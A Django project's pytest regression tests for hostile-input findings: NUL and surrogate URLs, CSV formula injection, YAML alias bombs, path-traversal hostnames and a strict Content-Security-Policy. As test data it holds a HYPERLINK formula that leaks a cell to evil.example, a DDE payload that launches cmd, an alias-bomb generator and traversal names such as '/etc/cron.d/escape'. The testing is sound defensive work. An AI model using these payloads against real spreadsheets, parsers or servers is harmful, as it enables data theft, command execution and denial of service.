"""The hostile-input findings of issue 27 ("Dashboard truth"), numbered as in the issue: one
regression test (at least) per finding, each seen failing on the code before its fix."""

from __future__ import annotations

import csv
import html
import io
import json
import logging
import re
from uuid import uuid4

import pytest
from django.contrib import admin as django_admin
from django.contrib.auth.models import AnonymousUser
from django.core.checks import run_checks
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import IntegrityError, connection, transaction
from django.http import QueryDict
from django.test import Client, RequestFactory
from django.urls import URLPattern, URLResolver, get_resolver

from fleet.core.csvfiles import csv_writer
from fleet.core.yamlfiles import YamlRefused, load_yaml
from fleet.fleetfile.document import FleetFileError, parse_text
from fleet.inventory.admin import DeviceAdmin
from fleet.inventory.hostnames import hostname_problem
from fleet.inventory.models import Device
from fleet.policies.models import ParameterProfile
from fleet_agent.config import ConfigError as AgentConfigError
from fleet_agent.config import read_file as read_agent_config
from tests.dashboard.conftest import OPERATOR, RC, VIEWER
from tests.helpers import REPO

# --- 10. NUL and other text PostgreSQL cannot store, in a path or a query ------------------------

#: A value for each kind of path parameter that gets a request as far as the view (the burnt-in
#: site's names), so that only the NUL differs.
_GOOD = {"slug": "lon-1", "hostname": "a00-n00", "requirement": "hbm-bandwidth"}
#: Every query parameter a page or an operation reads, and a few it does not.
QUERY_NAMES = [
    "site",
    "status",
    "before_at",
    "before_id",
    "fragment",
    "serial",
    "resource_class",
    "topology",
    "verdict",
    "satellite",
    "after",
    "requirement",
    "order",
    "page",
    "cursor",
    "limit",
    "hostname",
    "q",
]


def _routes(resolver: URLResolver | None = None, prefix: str = "") -> list[tuple[str, dict[str, str]]]:
    """(route with `{name}` holes, {name: converter or regex}) for every URL pattern in the URL
    conf, the included ones too."""
    resolver = resolver or get_resolver()
    found = []
    for entry in resolver.url_patterns:
        pattern = entry.pattern
        text = str(pattern)
        converters = getattr(pattern, "converters", {})
        # Both `<slug:slug>` routes and `(?P<pk>[^/.]+)` regexes become `{name}` holes.
        holes = {m.group(2): m.group(1) or "str" for m in re.finditer(r"<(?:(\w+):)?(\w+)>", text)}
        holes |= {m.group(1): "regex" for m in re.finditer(r"\(\?P<(\w+)>[^)]*\)", text)}
        text = re.sub(r"<(?:\w+:)?(\w+)>", r"{\1}", text)
        text = re.sub(r"\(\?P<(\w+)>[^)]*\)", r"{\1}", text)
        text = text.lstrip("^").rstrip("$").replace("\\.", ".").replace("\\Z", "")
        if re.search(r"[\\()\[\]*+?|]", text):
            continue  # a regex this generator cannot fill in (none of the service's own)
        holes = {name: converters.get(name, kind) for name, kind in holes.items()}
        if isinstance(entry, URLResolver):
            found += [(prefix + text + r, {**holes, **h}) for r, h in _routes(entry, "")]
        elif isinstance(entry, URLPattern):
            found.append((prefix + text, holes))
    return found


def _fill(route: str, holes: dict[str, object], nul_in: str | None, nul: str) -> str:
    values = {}
    for name in holes:
        if name == nul_in:
            values[name] = nul
        elif name in _GOOD:
            values[name] = _GOOD[name]
        else:
            values[name] = str(uuid4())
    return "/" + route.format(**values)


def _nul_cases() -> list[tuple[str, str, int]]:
    """(label, URL, the status it must answer): the NUL in each path parameter of every route, and
    in the query of every route."""
    cases = []
    for route, holes in _routes():
        for name in holes:
            for nul in ("%00", "a%00b"):
                cases.append((f"{route} {name}={nul}", _fill(route, holes, name, nul), 404))
        plain = _fill(route, holes, None, "")
        cases.append((f"{route} ?site=%00", f"{plain}?site=%00", 400))
        everywhere = "&".join(f"{n}=a%00b" for n in QUERY_NAMES)
        cases.append((f"{route} ?every=a%00b", f"{plain}?{everywhere}", 400))
    return cases


def test_10_the_url_conf_yields_the_issues_cases():
    urls = {url for _, url, _ in _nul_cases()}
    assert "/sites/lon-1/devices/%00/" in urls
    assert "/sites/lon-1/devices/a%00b/certificate/" in urls
    assert "/sites/lon-1/metrics/%00/" in urls
    assert "/jobs/?site=%00" in urls
    assert any(u.startswith("/api/v1/devices/") and "%00" in u for u in urls)


@pytest.fixture
def root(burnt_in, user_factory):
    return user_factory(username="root", superuser=True)


@pytest.fixture
def admin_browser(root) -> Client:
    # CSRF not enforced (the POSTs must reach the views if nothing stops them); a 500 is a status.
    browser = Client(raise_request_exception=False)
    browser.force_login(root)
    return browser


def test_10_nul_in_any_path_or_query_is_a_4xx_of_the_right_shape_and_logs_no_error(admin_browser, root, caplog):
    caplog.set_level(logging.WARNING)
    wrong = []
    cases = _nul_cases()
    for label, url, status in cases:
        for method in ("get", "post"):
            response = getattr(admin_browser, method)(url)
            if "logout" in url:
                admin_browser.force_login(root)  # should the logout have happened, sign in again
            api = url.startswith("/api/")
            shaped = (
                response["Content-Type"] == "application/json"
                and set(response.json()) == {"detail", "code", "field_errors"}
                if api
                else response["Content-Type"].startswith("text/html")
            )
            body = b"".join(response.streaming_content) if response.streaming else response.content
            if response.status_code != status or not shaped or b"Traceback" in body:
                wrong.append((method, label, response.status_code, body[:120]))
    errors = [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR]
    assert len(cases) > 100
    server_errors = [w for w in wrong if w[2] >= 500]
    assert not server_errors, f"{len(server_errors)} 5xx: " + "\n".join(map(str, server_errors[:20]))
    assert not wrong, "\n".join(map(str, wrong[:20])) + f"\n… {len(wrong)} in all"
    assert errors == []


def test_10_the_query_case_names_the_parameter(admin_browser):
    api = admin_browser.get("/api/v1/devices/?hostname=a%00b")
    assert api.status_code == 400
    assert api.json()["code"] == "invalid" and api.json()["field_errors"][0]["field"] == "hostname"
    page = admin_browser.get("/jobs/?site=%00")
    assert page.status_code == 400 and "site" in page.content.decode()


@pytest.mark.parametrize(
    ("path", "query", "status"),
    [
        ("/sites/lon-1/devices/\ud800/", {}, 404),
        ("/api/v1/devices/\udfff/", {}, 404),
        ("/jobs/", {"site": "\ud800"}, 400),
        ("/api/v1/devices/", {"hostname": "x\udc80"}, 400),
    ],
)
def test_10_lone_surrogates_are_refused_like_nul(db, path, query, status):
    """A server may hand Django a path that is not valid UTF-8 as lone surrogates (ASGI servers
    decoding with `surrogateescape`); PostgreSQL cannot store those either."""
    request = RequestFactory().get("/")
    request.path = request.path_info = path
    request.user = AnonymousUser()
    request.GET = QueryDict(mutable=True)
    for key, value in query.items():
        request.GET[key] = value
    from fleet.core.text import StorableTextMiddleware

    reached = []
    response = StorableTextMiddleware(lambda r: reached.append(r))(request)
    assert response.status_code == status and reached == []


# --- 16. CSV injection ---------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_16_failures_csv_neutralises_formula_looking_text_from_machines(burnt_in, person):
    policy = burnt_in.requirements["gpu-diag"].policy
    for n, evil in enumerate((HYPERLINK, DDE)):
        # A metric named like a formula fails on one device; an error text like one on another.
        burnt_in.requirements[f"evil-{n}"] = burnt_in.fleet.requirement(
            policy, f"evil-{n}", test="evil-test", thresholds=[{"metric": evil, "comparator": "gte", "threshold": 1}]
        )
        burnt_in.report(f"evil-{n}", device=burnt_in.devices[1 + n], metrics={evil: {"value": 0}})
        burnt_in.report(f"evil-{n}", device=burnt_in.devices[5 + n], metrics={}, status="errored", error=evil)
    burnt_in.report("gpu-diag", device=burnt_in.devices[3], metrics={}, status="errored", error="-2+3")
    burnt_in.sweep()
    response = person(VIEWER).get("/sites/lon-1/failures.csv?order=target")
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    failed = {r["requirement"]: r["rule"] for r in rows if r["requirement"].startswith("evil") and r["rule"]}
    assert failed["evil-0"].startswith("'" + HYPERLINK) and failed["evil-1"].startswith("'" + DDE)
    errors = [r["error"] for r in rows if r["verdict"] == "errored"]
    assert {"'" + HYPERLINK, "'" + DDE, "'-2+3"} <= set(errors)
    # No text cell of the file starts a formula any more; our own numbers (a margin of −100 %
    # is written -100.0) are still plain numbers.
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]
    assert {r["margin_pct"] for r in rows if r["requirement"].startswith("evil") and r["rule"]} == {"-100.0"}
    assert all(r["attempts"].isdigit() for r in rows)
    assert RC in {r["resource_class"] for r in rows}


def test_16_our_own_numbers_stay_numbers_and_only_text_is_neutralised():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow([-18.6, -3, 0, "-18.6", "=1+1", "+x", "\tx", "\rx", "@x", "plain", None])
    assert out.getvalue() == "-18.6,-3,0,'-18.6,'=1+1,'+x,'\tx,\"'\rx\",'@x,plain,\r\n"


def test_16_every_csv_the_service_writes_goes_through_the_one_writer():
    """No other module builds a csv writer (src/, the agent, the bench)."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    others = [
        str(path.relative_to(REPO))
        for folder in ("src", "agent/src", "rules/src", "bench")
        for path in (REPO / folder).rglob("*.py")
        if writers.search(path.read_text()) and path != REPO / "src/fleet/core/csvfiles.py"
    ]
    assert others == []


# --- 19. a date a page cannot read ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "named"),
    [
        ("before_at=2020-13-45T00:00:00&before_id={id}", "before_at"),
        ("before_at=yesterday&before_id={id}", "before_at"),
        ("before_at=2020-01-01T00:00:00Z&before_id=not-a-uuid", "before_id"),
        ("before_at=2020-01-01T00:00:00Z", "before_id"),
        ("status=exploded", "status"),
    ],
)
def test_19_a_bad_jobs_query_is_a_400_naming_the_parameter(person, burnt_in, query, named):
    response = person(VIEWER).get("/jobs/?" + query.format(id=uuid4()))
    assert response.status_code == 400
    page = response.content.decode()
    assert named in page and "Traceback" not in page


def test_19_the_jobs_pages_still_turn(person, burnt_in):
    viewer = person(VIEWER)
    assert viewer.get(f"/jobs/?before_at=2020-01-01T00:00:00%2B00:00&before_id={uuid4()}").status_code == 200
    assert viewer.get("/jobs/?status=queued&status=running&site=lon-1").status_code == 200


# --- 18. a YAML document of nested aliases ---------------------------------------------------------


def alias_bomb(levels: int = 25) -> str:
    """A parameter profile whose parameters are `levels` lists, each twice the one before:
    2**levels leaves in well under a kilobyte."""
    head = "parameter_profiles:\n- resource_class: gpu.h200.8x\n  test: dcgm-diag\n  parameters:\n"
    body = "    a0: &a0 [x, x]\n" + "".join(f"    a{i}: &a{i} [*a{i - 1}, *a{i - 1}]\n" for i in range(1, levels))
    return head + body


def test_18_the_bomb_is_the_issues_size():
    assert len(alias_bomb().encode()) < 800


def test_18_what_if_refuses_the_alias_bomb_naming_the_line(person, burnt_in):
    operator = person(OPERATOR)
    upload = SimpleUploadedFile("bomb.yaml", alias_bomb().encode(), content_type="application/yaml")
    operator.get("/what-if/")
    response = operator.post(
        "/what-if/", {"candidate": upload, "csrfmiddlewaretoken": operator.cookies["csrftoken"].value}
    )
    assert response.status_code == 400
    assert "aliases are not allowed (line 5)" in html.unescape(response.content.decode())


def test_18_fleet_apply_refuses_the_alias_bomb_and_writes_nothing(db, tmp_path):
    path = tmp_path / "bomb.yaml"
    path.write_text(alias_bomb())
    err = io.StringIO()
    with pytest.raises(CommandError, match="nothing was written"):
        call_command("apply", "-f", str(path), stderr=err)
    assert "aliases are not allowed (line 5)" in err.getvalue()
    assert ParameterProfile.objects.count() == 0


@pytest.mark.parametrize(
    ("text", "refusal"),
    [
        ("sites: &s []\n", "anchors and aliases are not allowed (line 1)"),
        ("policies:\n- &p {resource_class: x}\n- *p\n", "anchors and aliases are not allowed (line 2)"),
        ("base: &b {a: 1}\nmerged:\n  <<: *b\n", "anchors and aliases are not allowed (line 1)"),
        ("sites: " + "[" * 100 + "]" * 100 + "\n", "nested deeper than 64 levels (line 1)"),
    ],
)
def test_18_anchors_aliases_and_deep_nesting_are_refused_by_the_one_loader(text, refusal):
    with pytest.raises(YamlRefused, match=re.escape(refusal)):
        load_yaml(text)
    with pytest.raises(FleetFileError, match=re.escape(refusal)):
        parse_text(text)


def test_18_a_document_over_the_bound_is_refused_unread(settings):
    settings.MAX_YAML_BYTES = 1000
    with pytest.raises(YamlRefused, match="the document is 1001 bytes; at most 1000 are read"):
        load_yaml("#" * 1000 + "\n")


def test_18_ordinary_fleet_files_still_load():
    document = parse_text((REPO / "examples" / "fleet.yaml").read_text())
    assert document.sites and document.policies and document.sites[0].devices


def test_18_the_agent_reads_its_config_with_the_same_rule(tmp_path):
    bomb = tmp_path / "agent.yaml"
    bomb.write_text("api: http://x\n" + alias_bomb().replace("parameter_profiles:", "extra:"))
    with pytest.raises(AgentConfigError, match=re.escape("aliases are not allowed (line 6)")):
        read_agent_config(bomb)
    plain = tmp_path / "plain.yaml"
    plain.write_text("api: http://fleet.example\nsite: lon-1\n")
    assert read_agent_config(plain) == {"api": "http://fleet.example", "site": "lon-1"}


def test_18_no_other_module_reads_yaml():
    """The service reads YAML only through fleet.core.yamlfiles, the agent only through its config."""
    loaders = re.compile(r"yaml\.(safe_load|load|full_load|unsafe_load|load_all|safe_load_all|compose)\(")
    readers = {REPO / "src/fleet/core/yamlfiles.py", REPO / "agent/src/fleet_agent/config.py"}
    others = [
        str(path.relative_to(REPO))
        for folder in ("src", "agent/src", "rules/src")
        for path in (REPO / folder).rglob("*.py")
        if loaders.search(path.read_text()) and path not in readers
    ]
    assert others == []


# --- 17. hostnames ----------------------------------------------------------------------------------

NOT_HOSTNAMES = [
    "../../../escape-X",
    "/etc/cron.d/escape",
    "rack/a00",
    ".hidden",
    "-leading-dash",
    "with space",
    "tab\there",
    "trailing-newline\n",
    "x" * 254,
    "ünicode",
]
HOSTNAMES = ["a00-n00", "node_7.lon-1.example.com", "GPU01", "1", "x" * 253]


def _fleet_file(hostname: str) -> str:
    # JSON's string form is YAML's double-quoted scalar: every hostname written exactly.
    return (
        "sites:\n- slug: lon-1\n  satellites: [{name: sat-a}]\n  devices:\n"
        f"  - {{hostname: {json.dumps(hostname)}, resource_class: gpu.h200.8x}}\n"
    )


def _apply(tmp_path, text: str) -> str:
    path = tmp_path / "fleet.yaml"
    path.write_text(text)
    err = io.StringIO()
    call_command("apply", "-f", str(path), stdout=io.StringIO(), stderr=err)
    return err.getvalue()


@pytest.mark.parametrize("hostname", NOT_HOSTNAMES)
def test_17_fleet_apply_refuses_a_hostname_that_is_not_dns_style(db, tmp_path, hostname):
    with pytest.raises(CommandError, match="nothing was written"):
        _apply(tmp_path, _fleet_file(hostname))
    assert Device.objects.count() == 0


def test_17_the_refusal_names_the_field_and_the_rule(db, tmp_path):
    err = io.StringIO()
    (tmp_path / "f.yaml").write_text(_fleet_file("../../../escape-X"))
    with pytest.raises(CommandError):
        call_command("apply", "-f", str(tmp_path / "f.yaml"), stderr=err)
    assert "sites[0].devices[0].hostname: '../../../escape-X' is not a hostname" in err.getvalue()
    assert "[A-Za-z0-9][A-Za-z0-9._-]*" in err.getvalue() and "253" in err.getvalue()


@pytest.mark.parametrize("hostname", HOSTNAMES)
def test_17_dns_style_hostnames_are_accepted(db, tmp_path, hostname):
    _apply(tmp_path, _fleet_file(hostname))
    assert list(Device.objects.values_list("hostname", flat=True)) == [hostname]


@pytest.mark.parametrize("hostname", NOT_HOSTNAMES)
def test_17_the_model_field_the_admin_form_and_the_database_refuse_it(fleet, rf, hostname):
    site = fleet.site("lon-1")
    satellite = fleet.satellite(site, "sat-a")
    device = Device(site=site, satellite=satellite, hostname=hostname, resource_class=RC)
    with pytest.raises(ValidationError) as refused:
        device.full_clean()
    assert "hostname" in refused.value.message_dict
    request = rf.post("/admin/inventory/device/add/")
    request.user = AnonymousUser()
    form_class = DeviceAdmin(Device, django_admin.site).get_form(request)
    data = {"site": site.id, "satellite": satellite.id, "hostname": hostname, "resource_class": RC, "state": "staged"}
    form = form_class(data)
    # A form strips surrounding whitespace first: "trailing-newline\n" is saved as "trailing-newline".
    if hostname_problem(hostname.strip()) is None:
        assert form.is_valid() and form.cleaned_data["hostname"] == hostname.strip()
    else:
        assert not form.is_valid() and "hostname" in form.errors
    with pytest.raises(IntegrityError, match="inventory_device_hostname_format"), transaction.atomic():
        Device.objects.create(site=site, satellite=satellite, hostname=hostname, resource_class=RC)


def _without_the_hostname_constraint() -> None:
    """A database from before the rule: rows the rule refuses can exist there."""
    with connection.cursor() as cursor:
        cursor.execute("ALTER TABLE inventory_device DROP CONSTRAINT IF EXISTS inventory_device_hostname_format")


def test_17_certificate_export_writes_only_inside_the_directory_asked_for(fleet, tmp_path):
    from tests.burnin.certs import evaluate_now, sweep

    _without_the_hostname_constraint()
    (tmp_path / "abs").mkdir()
    absolute = str(tmp_path / "abs" / "escape-Y")
    site = fleet.site("lon-1")
    satellite = fleet.satellite(site, "sat-a")
    diag = fleet.requirement(fleet.policy(RC), "gpu-diag")
    devices = [fleet.device(satellite, RC, hostname=h) for h in ("../../../escape-X", absolute, "n0")]
    evaluate_now(*(fleet.execution(diag, device=d, metrics={"diag_failed_tests": {"value": 0}}) for d in devices))
    sweep(satellite)
    out = tmp_path / "a" / "b" / "c" / "out"
    err = io.StringIO()
    with pytest.raises(CommandError, match="2 certificate"):
        call_command("certificate", "export", "--site", "lon-1", "--dir", str(out), stdout=io.StringIO(), stderr=err)
    written = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if p.is_file())
    assert len(written) == 1 and written[0].startswith("a/b/c/out/n0.")
    assert "../../../escape-X" in err.getvalue() and absolute in err.getvalue()


def test_17_existing_rows_are_reported_by_the_check_and_the_migration_refuses_to_run(fleet):
    call_command("migrate", "inventory", "0003", verbosity=0)
    site = fleet.site("lon-1")
    satellite = fleet.satellite(site, "sat-a")
    fleet.device(satellite, RC, hostname="../../../escape-X")
    fleet.device(satellite, RC, hostname="fine-host")
    reported = [m for m in run_checks(databases=["default"]) if m.id == "inventory.E001"]
    assert len(reported) == 1 and "lon-1/../../../escape-X" in reported[0].msg and "fine-host" not in reported[0].msg
    with pytest.raises(CommandError, match=re.escape("lon-1/../../../escape-X")):
        call_command("migrate", "inventory", verbosity=0)
    assert Device.objects.filter(hostname="../../../escape-X").exists()  # nothing renamed


# --- 20. Content-Security-Policy; no password reset -------------------------------------------------

STRICT = (
    "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self'; object-src 'none'; "
    "frame-ancestors 'none'; form-action 'self'; base-uri 'none'"
)


def test_20_every_response_carries_the_strict_policy(person, burnt_in, client):
    viewer = person(VIEWER)
    for url in [
        "/",
        "/sites/lon-1/",
        "/sites/lon-1/grid/",
        "/sites/lon-1/failures.csv",
        "/sites/lon-1/devices/no-such-host/",
        "/jobs/?before_at=2020-13-45T00:00:00&before_id=x",
        "/api/v1/devices/",
        "/api/v1/nothing-here/",
        "/api/schema/",
    ]:
        assert viewer.get(url)["Content-Security-Policy"] == STRICT, url
    for url in ["/accounts/login/", "/admin/login/", "/healthz", "/api/v1/devices/?x=%00"]:
        assert client.get(url)["Content-Security-Policy"] == STRICT, url
    docs = client.get("/api/docs/")
    assert docs["Content-Security-Policy"] == STRICT.replace("img-src 'self'", "img-src 'self' data:")


#: What a strict policy refuses to run or apply in a page: inline scripts and styles, event-handler
#: attributes, javascript: URLs, and htmx's eval'd trigger filters and hx-on handlers.
INLINE = re.compile(
    r"<script(?![^>]*\bsrc=)[^>]*>|<style\b|\sstyle=|\son[a-z]+=|javascript:|hx-on|hx-trigger=\"[^\"]*\[|hx-vals=\"js:"
)


def test_20_no_template_holds_what_the_policy_would_refuse():
    found = [
        f"{path.relative_to(REPO)}: {match.group(0)}"
        for path in (REPO / "src").rglob("templates/**/*.html")
        for match in INLINE.finditer(path.read_text())
    ]
    assert found == []


@pytest.mark.parametrize(
    "url",
    [
        "/accounts/password_reset/",
        "/accounts/password_reset/done/",
        "/accounts/reset/MQ/set-password/",
        "/accounts/reset/done/",
    ],
)
def test_20_the_password_reset_views_are_gone(client, db, url):
    assert client.get(url).status_code == 404
    assert client.post(url, {"email": "someone@example.com"}).status_code == 404


def test_20_people_still_sign_in_and_out(client, user_factory):
    user_factory(username="op")
    assert client.get("/accounts/login/").status_code == 200
    signed_in = client.post("/accounts/login/", {"username": "op", "password": "pw-for-tests"})
    assert signed_in.status_code == 302 and client.session.get("_auth_user_id")
    assert client.post("/accounts/logout/").status_code == 302 and not client.session.get("_auth_user_id")
